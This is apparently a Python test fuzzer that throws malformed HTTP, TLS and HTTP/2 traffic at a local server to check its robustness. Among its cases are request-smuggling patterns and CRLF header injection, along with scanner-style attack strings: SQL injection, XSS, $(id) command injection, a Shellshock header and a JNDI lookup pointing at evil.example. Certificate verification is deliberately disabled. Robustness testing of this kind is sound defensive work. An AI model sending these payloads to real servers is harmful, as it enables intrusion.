"""garbage.py: what a bored student, a scanner and a broken telephone send instead of a request, one kind a row of `KINDS`.

    Garbage(("127.0.0.1", port)).throw("two lengths", rng)     # bytes that came back, at most ANSWER_MAX of them
    Thrower(("127.0.0.1", port), threads=4, tls=True)          # all kinds, at random, until stop(); `thrown` counts them by kind

Each kind bears MARK in what it sends wherever it can: who finds it in an answer or a log has found an echo.
"""
import collections
import os
import random
import re
import socket
import ssl
import struct
import threading

MARK = "zqxGARBAGEzqx"
ANSWER_MAX = 256 * 1024
UNSEEN = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # whoever answers: the certificate is a test's own
UNSEEN.check_hostname, UNSEEN.verify_mode = False, ssl.CERT_NONE
PATHS = ("/", "/signaler", "/connexion", "/dossiers", "/assets/box.css", "/write", "/sensors/readings", "/adresses?q=" + MARK,
         "/suivi/" + "A" * 43, "/health", "/query", "/signaler/photos", "/api/v2/write")


def path(rng):
    return rng.choice(PATHS)


def request(method, target, *lines, body=b"", version="HTTP/1.1", end="\r\n"):
    return end.join([f"{method} {target} {version}", "Host: x", *lines, "", ""]).encode("latin-1") + body


def get(target, *lines, **how):
    return request("GET", target, *lines, **how)


def post(target, body, *lines, kind="application/x-www-form-urlencoded", length=None):
    size = len(body) if length is None else length
    return request("POST", target, f"Content-Type: {kind}", f"Content-Length: {size}", *lines, body=body)


def chunked(target, body, *lines):
    return request("POST", target, "Transfer-Encoding: chunked", *lines, body=body)


def noise(rng, most=4096):
    return rng.randbytes(rng.randrange(1, most))


def hello(rng):
    """A TLS greeting, cut somewhere: to a plain port it is noise, to that of TLS a beginning without an end."""
    body = b"\x03\x03" + rng.randbytes(32) + b"\0" + b"\0\x04\x13\x01\x13\x02" + b"\x01\0"
    whole = b"\x16\x03\x01" + struct.pack(">H", len(body) + 4) + b"\x01" + struct.pack(">I", len(body))[1:] + body
    return whole[:rng.randrange(1, len(whole))]


def mutated(rng):
    """A good request in which some bytes are others."""
    bytes_ = bytearray(post("/signaler", b"csrf=" + MARK.encode(), "Cookie: session=" + MARK))
    for _ in range(rng.randrange(1, 12)):
        bytes_[rng.randrange(len(bytes_))] = rng.randrange(256)
    return bytes(bytes_)


def multipart(rng):
    head = f'--{MARK}\r\nContent-Disposition: form-data; name="photos"; filename="{MARK}.jpg"\r\n\r\n'.encode()
    body = rng.choice((head * 400, head + noise(rng, 60000), f"--{MARK}".encode() * 3000, head[:-2] + b"X: " + b"y" * 30000,
                       head + b"\xff\xd8\xff" + noise(rng) + f"\r\n--{MARK}--\r\n".encode()))
    return post("/signaler/photos", body, kind="multipart/form-data; boundary=" + MARK)


LENGTHS = ("-1", "3x", "0x10", "+5", "1e9", "9223372036854775807", "18446744073709551615", " ", "1,1")
SIZES = (b"-1\r\n", b"zz\r\n", b"FFFFFFFFFFFFFFFF\r\n", b"1\r\nab", b"0x5\r\nhello\r\n0\r\n\r\n", b";" * 9000)
LINE_ENDS = (f"/%0d%0aSet-Cookie:%20{MARK}=1", f"/connexion?next=/%0d%0aX:{MARK}", f"/c/%0aLocation:{MARK}")
HIDDEN = ("%00", "%2f..%2f", "%5c", "%c0%af", "%", "%zz", "%u0041", "/../" * 2000)
METHODS = ("TRACE", "CONNECT", "PUT", "DELETE", "PROPFIND", "OPTIONS", "get", "G" * 9000, "")
VERSIONS = ("HTTP/9.9", "HTTP/1.1x", "HTTP/0.9", "http/1.1", "", "HTTP/" + "1" * 3000)
ELSEWHERE = ("http://evil.example/" + MARK, "*", "//evil.example", "evil.example:443", "/\\evil.example")
UPGRADE = ("Connection: Upgrade, HTTP2-Settings", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13",
           "HTTP2-Settings: AAMAAABkAAQAAP__")
SIGNS = ("/?id=1'%20OR%20'1'='1", "/adresses?q=%3Cscript%3Ealert(1)%3C/script%3E", "/.env", "/wp-login.php", "/cgi-bin/test.cgi",
         "/adresses?q=$(id)", "/adresses?q=%7B%7B7*7%7D%7D", "/connexion?next=https://evil.example/", "/.git/config", "/assets/",
         "/x.php?cmd=" + MARK)
TOKEN = "Authorization: Token a:" + MARK

# Kind → pieces to send, one after the other.
KINDS = {
    "nothing": lambda rng: [],
    "random bytes": lambda rng: [noise(rng)],
    "a greeting of TLS, cut": lambda rng: [hello(rng)],
    "a greeting of HTTP/2": lambda rng: [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + noise(rng, 400)],
    "a good request with a few wrong bytes": lambda rng: [mutated(rng)],
    "half a request": lambda rng: [get(path(rng), "X: " + MARK)[:rng.randrange(4, 40)]],
    "more headers than a head may hold": lambda rng: [get(path(rng), *[f"X-{n}: {MARK}" for n in range(3000)])],
    "two hundred headers": lambda rng: [get(path(rng), *[f"X-{n}: {MARK}" for n in range(200)])],
    "a header without an end": lambda rng: [get(path(rng), "X: " + MARK * 5000)],
    "an address without an end": lambda rng: [get("/" + MARK * 8000)],
    "an address as long as may be": lambda rng: [get("/" + "a" * rng.randrange(15900, 16400))],
    "a query without an end": lambda rng: [get("/adresses?q=" + "%C3%A9" * 2600)],
    "two hundred requests at once": lambda rng: [request(rng.choice(("GET", "HEAD", "BREW")), path(rng)) * 200],
    "a request behind nonsense": lambda rng: [noise(rng, 200) + get("/signaler")],
    "chunks of no size": lambda rng: [chunked(path(rng), rng.choice(SIZES))],
    "chunks and a length": lambda rng: [chunked("/write", b"0\r\n\r\n" + get("/health"), "Content-Length: 5")],
    "a body where none belongs": lambda rng: [get(path(rng), "Content-Length: 26") + get("/health")[:26]],
    "two lengths": lambda rng: [request("POST", "/connexion", "Content-Length: 3", "Content-Length: 40") + b"abc" + noise(rng, 40)],
    "a length that is none": lambda rng: [request("POST", path(rng), "Content-Length: " + rng.choice(LENGTHS)) + b"abc"],
    "a length that is not kept": lambda rng: [post("/connexion", b"email=" + MARK.encode(), length=60000)],
    "a null byte in a form": lambda rng: [post("/connexion", rng.choice((b"a=b\0c&d=e", b"a=\0&b", b"\0=\0&\0")))],
    "a null byte in a head": lambda rng: [get("/signaler", "X: a\0b"), get("/sig\0naler")],
    "line ends in an address": lambda rng: [get(rng.choice(LINE_ENDS))],
    "bytes hidden in an address": lambda rng: [get("/signaler" + rng.choice(HIDDEN))],
    "line ends of others": lambda rng: [get(path(rng), "X: " + MARK, end=rng.choice(("\n", "\r")))],
    "folded headers": lambda rng: [get("/signaler", "X: a\r\n " + MARK, "Y : b", ": c", "no colon")],
    "methods of others": lambda rng: [request(rng.choice(METHODS), path(rng), "X: " + MARK)],
    "versions of others": lambda rng: [get(path(rng), version=rng.choice(VERSIONS))],
    "somebody else's address": lambda rng: [get(rng.choice(ELSEWHERE))],
    "another protocol asked for": lambda rng: [get(path(rng), "Upgrade: " + rng.choice(("websocket", "h2c")), *UPGRADE)],
    "ranges of a killer": lambda rng: [get("/assets/box.css", "Range: bytes=" + ",".join(f"{n}-" for n in range(1300)))],
    "ranges that are none": lambda rng: [get("/assets/box.css", "Range: bytes=" + rng.choice(("9-2", "-0", "9" * 20, "a-b")))],
    "cookies without an end": lambda rng: [get("/dossiers", "Cookie: " + "; ".join(f"session={MARK}{n}" for n in range(600)))],
    "cookies of noise": lambda rng: [get("/dossiers", "Cookie: session=" + noise(rng, 300).hex() + "\xe9" * 300)],
    "languages without an end": lambda rng: [get("/signaler", "Accept-Language: " + ",".join(f"x{n};q=0.{n}" for n in range(900)))],
    "who one is, a hundred times": lambda rng: [get("/signaler", *["X-Forwarded-For: 9.9.9.9, " + MARK] * 90)],
    "a multipart that is none": lambda rng: [multipart(rng)],
    "a form of ten thousand fields": lambda rng: [post("/connexion", b"&".join(b"a%d=1" % n for n in range(10000)))],
    "JSON without an end": lambda rng: [post("/sensors/readings", b"[" * 50000, TOKEN, kind="application/json")],
    "lines that are none": lambda rng: [post("/write?db=" + MARK, noise(rng), TOKEN, kind="text/plain")],
    "a packed body that is none": lambda rng: [post("/write", b"\x1f\x8b\x08\0" + noise(rng), TOKEN, "Content-Encoding: gzip")],
    "a wait for leave": lambda rng: [post("/signaler/photos", b"", "Expect: 100-continue", length=60000000), noise(rng)],
    "one byte after the other": lambda rng: [bytes([byte]) for byte in get("/signaler", "X: " + MARK)[:40]],
    "signs of attacks, as scanners know them": lambda rng: [get(
        rng.choice(SIGNS), "User-Agent: () { :; }; echo " + MARK, "Referer: ${jndi:ldap://evil.example/" + MARK + "}")],
}


class Garbage:
    """One peer that throws. `source`: of chance, the address it comes from (127.0.0.0/8)."""

    def __init__(self, address, tls=False, source=None, timeout_s=5):
        self.address, self.tls, self.source, self.timeout_s = address, tls, source or (lambda rng: "127.0.0.1"), timeout_s

    def _connect(self, within_tls, rng):
        wire = socket.create_connection(self.address, self.timeout_s, (self.source(rng), 0))
        wire.settimeout(self.timeout_s)
        if not within_tls:
            return wire
        return UNSEEN.wrap_socket(wire, server_hostname="box.local")

    def throw(self, kind, rng, patience_s=None):
        """Sends it and reads what comes within `patience_s` (default: the timeout); raises nothing a network may do. At times it
        is gone before the answer, or resets."""
        within_tls = self.tls and kind != "a greeting of TLS, cut" and rng.random() < 0.9
        return self._exchange(KINDS[kind](rng), within_tls, rng, self.timeout_s if patience_s is None else patience_s)

    def throw_bytes(self, bytes_, patience_s=2):
        """Those very bytes, and what comes back until it is over or nothing comes for so long."""
        return self._exchange([bytes_], self.tls, random.Random(0), patience_s)

    def _exchange(self, pieces, within_tls, rng, patience_s):
        answer, wire = b"", None
        try:
            wire = self._connect(within_tls, rng)
            for piece in pieces:
                wire.sendall(piece)
            wire.settimeout(max(patience_s, 0.001))
            while patience_s > 0 and len(answer) < ANSWER_MAX and (part := wire.recv(65536)):
                answer += part
        except OSError:  # ssl.SSLError is one
            pass
        finally:
            if wire is not None:
                if rng.random() < 0.3:
                    wire.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # a reset
                wire.close()
        return answer


class Thrower:
    """Several peers that throw all kinds at random. The seed is printed by who starts it: the same seed throws the same."""

    def __init__(self, address, seed, threads=4, tls=False, source=None):
        self.thrown, self.faults = collections.Counter(), []
        self._stop = threading.Event()
        self._peers = [threading.Thread(target=self._throw, args=(Garbage(address, tls, source), random.Random(f"{seed}-{n}")),
                                        daemon=True)
                       for n in range(threads)]
        for peer in self._peers:
            peer.start()

    def _throw(self, garbage, rng):
        kinds = list(KINDS)
        while not self._stop.is_set():
            kind = rng.choice(kinds)
            answer = garbage.throw(kind, rng, patience_s=rng.choice((0, 0.05, 1)))
            self.thrown[kind] += 1
            if re.match(rb"HTTP/1.1 5(?!03|05)", answer):  # too busy, no such version of HTTP
                self.faults.append((kind, answer[:200]))

    def stop(self):
        self._stop.set()
        for peer in self._peers:
            peer.join(30)
